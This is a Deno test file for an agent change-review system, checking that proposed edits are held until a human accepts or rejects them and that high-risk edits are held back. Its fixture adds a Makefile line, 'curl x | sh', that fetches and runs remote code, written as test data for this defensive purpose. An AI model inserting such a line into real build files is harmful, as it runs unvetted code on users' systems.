import assert from "node:assert/strict";
import { openDatabase } from "../store/database.ts";
import { createSession } from "../store/sessions.ts";
import { changesetPaths } from "../workspace/changeset.ts";
import { takeTestBaseline, writeChangeset, writeTree } from "../workspace/testing/test_tree.ts";
import { applyChanges } from "./apply_changes.ts";
import { openContext } from "./context.ts";
import type { AgentboxError } from "./errors.ts";
import { decideReview, listReviews, submitReview } from "./reviews.ts";

const SESSION = "5e55-review";
const MAIN = new URL("../main.ts", import.meta.url).pathname;

/**
 * A private state directory (and database file) with one session whose changeset edits a.txt,
 * adds docs/new.md and edits the Makefile (high-risk).
 */
async function withSession(
  fn: (parts: { root: string; base: string; records: string }) => Promise<void>,
): Promise<void> {
  const base = await Deno.realPath(await Deno.makeTempDir({ prefix: "api-review-" }));
  const saved = Deno.env.get("XDG_STATE_HOME");
  Deno.env.set("XDG_STATE_HOME", `${base}/state`);
  try {
    const root = `${base}/project`;
    await Deno.mkdir(root);
    await writeTree(root, { "a.txt": "a\n", "Makefile": "all:\n" });
    const paths = changesetPaths(`${base}/state/agentbox/sessions/${SESSION}`);
    await Deno.mkdir(paths.blobs, { recursive: true });
    await Deno.writeTextFile(paths.baseline, JSON.stringify(await takeTestBaseline(root)));
    const records = await writeChangeset(paths.blobs, [
      { path: "a.txt", type: "file", content: "A\n" },
      { path: "docs", type: "dir", mode: 0o755 },
      { path: "docs/new.md", type: "file", content: "new\n" },
      { path: "Makefile", type: "file", content: "all:\n\tcurl x | sh\n" },
    ]);
    await Deno.writeTextFile(paths.records, JSON.stringify(records));
    const db = openDatabase(`${base}/state/agentbox/agentbox.db`);
    createSession(db, { id: SESSION, project: root });
    db.close();
    await fn({ root, base, records: paths.records });
  } finally {
    if (saved === undefined) Deno.env.delete("XDG_STATE_HOME");
    else Deno.env.set("XDG_STATE_HOME", saved);
    await Deno.remove(base, { recursive: true });
  }
}

const tree = async (root: string) => {
  const out: Record<string, string> = {};
  const walk = async (dir: string, prefix: string) => {
    for await (const e of Deno.readDir(dir)) {
      if (e.isDirectory) await walk(`${dir}/${e.name}`, `${prefix}${e.name}/`);
      else out[`${prefix}${e.name}`] = await Deno.readTextFile(`${dir}/${e.name}`);
    }
  };
  await walk(root, "");
  return out;
};

const failsWith = async (promise: Promise<unknown>, code: string) =>
  await assert.rejects(promise, (e: AgentboxError) => e.code === code);

Deno.test("reviews: a submitted apply is held; accept applies exactly what was asked, once", async () => {
  await withSession(async ({ root }) => {
    using ctx = openContext();
    const before = await tree(root);
    const review = await submitReview(
      ctx,
      { id: SESSION },
      { paths: ["a.txt", "docs"] },
      "token:agent",
    );
    assert.deepEqual(review.planned.map((p) => p.path), ["a.txt", "docs", "docs/new.md"]);
    assert.deepEqual([review.state, review.submittedBy, review.project], [
      "pending",
      "token:agent",
      root,
    ]);
    assert.deepEqual(await tree(root), before, "held: nothing written");
    assert.deepEqual(listReviews(ctx, { pending: true }).map((r) => r.id), [review.id]);

    const { review: accepted, summary } = await decideReview(ctx, review.id, "accept", "cli:alice");
    assert.equal(summary?.status, "applied");
    assert.deepEqual(await tree(root), {
      "a.txt": "A\n",
      "Makefile": "all:\n",
      "docs/new.md": "new\n",
    });
    assert.deepEqual([accepted.state, accepted.decidedBy], ["accepted", "cli:alice"]);
    assert.ok(accepted.decidedAt! >= accepted.submittedAt);
    assert.deepEqual(
      accepted.result && "counts" in accepted.result && accepted.result.counts.applied,
      3,
    );
    assert.deepEqual(listReviews(ctx, { pending: true }), []);
    await failsWith(decideReview(ctx, review.id, "reject", "cli:bob"), "review_decided");
  });
});

Deno.test("reviews: reject leaves the project untouched; a moved changeset is stale; bad input", async () => {
  await withSession(async ({ root, records }) => {
    using ctx = openContext();
    const before = await tree(root);
    const first = await submitReview(ctx, { id: SESSION }, { allowHighRisk: true }, "cli:alice");
    assert.ok(first.planned.some((p) => p.path === "Makefile" && p.highRisk));
    const { review: rejected, summary } = await decideReview(ctx, first.id, "reject", "token:ops");
    assert.equal(summary, undefined);
    assert.deepEqual([rejected.state, rejected.decidedBy], ["rejected", "token:ops"]);
    assert.deepEqual(await tree(root), before);

    const second = await submitReview(ctx, { id: SESSION }, {}, "cli:alice");
    // High-risk changes are held back unless the submission asked for them.
    assert.equal(second.planned.some((p) => p.path === "Makefile"), false);
    const moved = JSON.parse(await Deno.readTextFile(records)).filter(
      (r: { path: string }) => r.path !== "a.txt",
    );
    await Deno.writeTextFile(records, JSON.stringify(moved));
    await failsWith(decideReview(ctx, second.id, "accept", "cli:alice"), "review_stale");
    assert.deepEqual(await tree(root), before);
    assert.equal(listReviews(ctx, { pending: true })[0].id, second.id, "still pending");

    await failsWith(decideReview(ctx, 999, "accept", "cli:x"), "review_unknown");
    await failsWith(decideReview(ctx, second.id, "maybe", "cli:x"), "review_invalid");
    await failsWith(decideReview(ctx, second.id, "accept", ""), "review_invalid");
    await failsWith(
      submitReview(ctx, { id: SESSION }, { paths: ["nope"] }, "cli:x"),
      "nothing_to_review",
    );
    await failsWith(submitReview(ctx, { id: SESSION }, { paths: ["/abs"] }, "cli:x"), "bad_glob");
    await failsWith(
      submitReview(ctx, { id: SESSION }, { paths: [], bogus: 1 } as never, "cli:x"),
      "review_invalid",
    );
  });
});

Deno.test("reviews: a plain apply while a review waits leaves nothing for the accept to write", async () => {
  await withSession(async ({ root }) => {
    using ctx = openContext();
    const review = await submitReview(ctx, { id: SESSION }, { paths: ["a.txt"] }, "cli:alice");
    await applyChanges(ctx, { id: SESSION }, { paths: ["a.txt"] });
    const { summary } = await decideReview(ctx, review.id, "accept", "cli:bob");
    assert.deepEqual([summary?.counts.applied, summary?.counts.unchanged], [0, 1]);
    assert.equal(await Deno.readTextFile(`${root}/a.txt`), "A\n");
  });
});

Deno.test("reviews through the CLI: apply --for-review, reviews --json, review ID accept", async () => {
  await withSession(async ({ root, base }) => {
    const cli = async (...args: string[]) => {
      const out = await new Deno.Command(Deno.execPath(), {
        args: ["run", "--allow-all", "--quiet", MAIN, ...args],
        cwd: root,
        env: { XDG_STATE_HOME: `${base}/state`, NO_COLOR: "1" },
        stdin: "null",
      }).output();
      const text = (b: Uint8Array) => new TextDecoder().decode(b);
      return { code: out.code, stdout: text(out.stdout), stderr: text(out.stderr) };
    };
    const submitted = await cli("apply", SESSION, "--for-review", "--path", "a.txt");
    assert.equal(submitted.code, 0, submitted.stderr);
    assert.match(submitted.stderr, /review (\d+): 1 path\(s\) .* held for review/);
    assert.equal(await Deno.readTextFile(`${root}/a.txt`), "a\n");
    const listed = await cli("reviews", "--json");
    const [review] = JSON.parse(listed.stdout);
    assert.deepEqual(review.request.paths, ["a.txt"]);
    assert.match(review.submittedBy, /^cli:/);
    const bad = await cli("apply", SESSION, "--for-review", "--dry-run");
    assert.equal(bad.code, 125);
    const accepted = await cli("review", String(review.id), "accept");
    assert.equal(accepted.code, 0, accepted.stderr);
    assert.match(accepted.stderr, /review \d+ accepted by cli:/);
    assert.match(accepted.stdout, /Applied 1 of 1/);
    assert.equal(await Deno.readTextFile(`${root}/a.txt`), "A\n");
    assert.equal(await Deno.readTextFile(`${root}/Makefile`), "all:\n");
    const again = await cli("review", String(review.id), "reject");
    assert.equal(again.code, 125);
    assert.match(again.stderr, /decided already \(accepted by cli:/);
  });
});
